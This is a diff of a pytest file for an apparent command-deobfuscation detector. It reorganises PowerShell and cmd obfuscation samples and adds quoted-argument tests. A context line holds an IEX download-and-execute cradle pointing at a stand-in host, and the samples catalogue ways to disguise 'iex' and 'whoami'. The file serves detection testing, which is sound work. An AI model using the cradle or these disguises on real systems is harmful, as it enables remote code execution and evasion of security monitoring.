@@ -40,6 +40,29 @@ SCRIPT = b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a'
 LIST = "whoami /all"
 
 
+POWERSHELL = [
+    ("('i','e','x') -join ''", "iex"),
+    ("-join('i','e','x')", "iex"),
+    ("& ('i','e','x' -join '')", "& (iex)"),
+    ("[string]::join('',('i','e','x'))", "iex"),
+    ("[string]::concat('i','e','x')", "iex"),
+    ("-join([char]105,[char]101,[char]120)", "iex"),
+    ("('whXXoaXXmi' -replace 'XX','')", "(whoami)"),
+    ("'whXXoami'.replace('XX','')", "whoami"),
+    ("('whXXoaYYmi' -replace 'XX','' -creplace 'YY','')", "(whoami)"),
+    ("('whXXoami').RePlaCE(([char]88+[char]88),'')", "whoami"),
+    ("('wXhXoXaXmXi' -split 'X' -join '')", "(whoami)"),
+    ("('imaohw'[-1..-6] -join '')", "(whoami)"),
+    ("$s='imaohw';-join $s[-1..-6]", "$s=imaohw;whoami"),
+    ("$a='who';$b='ami';iex ($a+$b)", "$a=who;$b=ami;iex (whoami)"),
+    ("${a}='who';${b}='ami';& ($a+$b)", "${a}=who;${b}=ami;& (whoami)"),
+    ("& (gcm i*-e*n) x", "& (gcm invoke-expression) x"),
+    ("&(gal i?x)", "&(gal iex)"),
+    ("'who'+'ami'", "whoami"),
+    ("&('i'+'ex') $x", "&(iex) $x"),
+]
+
+
 @pytest.mark.parametrize(
     ("text", "command"),
     [
@@ -71,29 +94,24 @@ LIST = "whoami /all"
         ('cmd /c "set x=whXXoami&&call %x:XX=%"', "cmd /c set x=whxxoami&&call whoami"),
         ("cmd.exe,/c,whoami", "cmd.exe /c whoami"),
         (",;,cmd.exe,;,/c,;,whoami", "cmd.exe /c whoami"),
-        # PowerShell
-        ("('i','e','x') -join ''", "iex"),
-        ("-join('i','e','x')", "iex"),
-        ("& ('i','e','x' -join '')", "& (iex)"),
-        ("[string]::join('',('i','e','x'))", "iex"),
-        ("[string]::concat('i','e','x')", "iex"),
-        ("-join([char]105,[char]101,[char]120)", "iex"),
-        ("('whXXoaXXmi' -replace 'XX','')", "(whoami)"),
-        ("'whXXoami'.replace('XX','')", "whoami"),
-        ("('whXXoaYYmi' -replace 'XX','' -creplace 'YY','')", "(whoami)"),
-        ("('whXXoami').RePlaCE(([char]88+[char]88),'')", "whoami"),
-        ("('wXhXoXaXmXi' -split 'X' -join '')", "(whoami)"),
-        ("('imaohw'[-1..-6] -join '')", "(whoami)"),
-        ("$s='imaohw';-join $s[-1..-6]", "$s=imaohw;whoami"),
-        ("$a='who';$b='ami';iex ($a+$b)", "$a=who;$b=ami;iex (whoami)"),
-        ("${a}='who';${b}='ami';& ($a+$b)", "${a}=who;${b}=ami;& (whoami)"),
-        ("& (gcm i*-e*n) x", "& (gcm invoke-expression) x"),
-        ("&(gal i?x)", "&(gal iex)"),
+        *POWERSHELL,
     ],
 )
 def test_published_disguises_are_undone(text, command):
     assert fields(text)[0].strip("()") == command.strip("()")
     assert fields(text)[5]  # and a mark says so
+
+
+@pytest.mark.parametrize(
+    ("outer", "inner"), [('"', "'"), ('"', '\\"'), ("'", '"')], ids=["double", "escaped", "single"]
+)
+@pytest.mark.parametrize(("text", "command"), [case for case in POWERSHELL if "'" in case[0]])
+def test_they_are_undone_in_a_quoted_argument(text, command, outer, inner):
+    read = fields(f"powershell -c {outer}{text.replace(chr(39), inner)}{outer} x")
+    assert read[0].replace("(", "").replace(")", "") == (
+        f"powershell -c {command} x".replace("(", "").replace(")", "")
+    )
+    assert read[5]
 
 
 @pytest.mark.parametrize(
@@ -140,6 +158,8 @@ def test_published_payloads_are_decoded(text, payload):
         "sed 's/^/./' | column -s$'\\t' -t",
         "make CC=gcc; echo $CC",
         "curl http://a.example/?a=1,2,3;b=4",
+        "x",
+        'awk \'{print $1 "-" $2, ("a", "b")}\' log.txt',
     ],
 )
 def test_ordinary_lines_have_no_mark(text):
